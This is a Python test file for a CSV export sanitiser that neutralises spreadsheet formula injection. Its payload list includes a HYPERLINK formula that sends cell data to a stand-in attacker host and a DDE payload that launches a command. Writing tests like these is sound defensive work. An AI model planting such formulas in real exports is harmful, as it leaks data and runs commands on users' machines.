import csv
import io
from decimal import Decimal

import pytest

from diversion.lib.safe_csv import SafeWriter, csv_text, neutralise


@pytest.mark.parametrize("payload", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "＝1+1",
])
def test_it_makes_formula_text_inert(payload):
    out = neutralise(payload)
    assert out == "'" + payload


@pytest.mark.parametrize("value", ["Plain note", "a=b", "email@example.org", "", "Ñandú"])
def test_it_leaves_ordinary_text_alone(value):
    assert neutralise(value) == value


def test_it_keeps_numbers_as_numbers():
    assert neutralise(-3) == -3
    assert neutralise(-2.5) == -2.5
    assert neutralise(Decimal("-1.10")) == Decimal("-1.10")
    assert neutralise(None) == ""


def test_a_whole_document_reads_back_with_every_formula_quoted():
    text = csv_text(["id", "note", "amount"],
                    [[1, '=HYPERLINK("http://x")', -4], [2, "fine, with comma", 3]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["id", "note", "amount"]
    assert rows[1] == ["1", "'=HYPERLINK(\"http://x\")", "-4"]
    assert rows[2] == ["2", "fine, with comma", "3"]


def test_the_writer_neutralises_every_row():
    buf = io.StringIO()
    SafeWriter(buf).writerows([["@x", "y"], ["+z", 5]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'@x", "y"], ["'+z", "5"]]
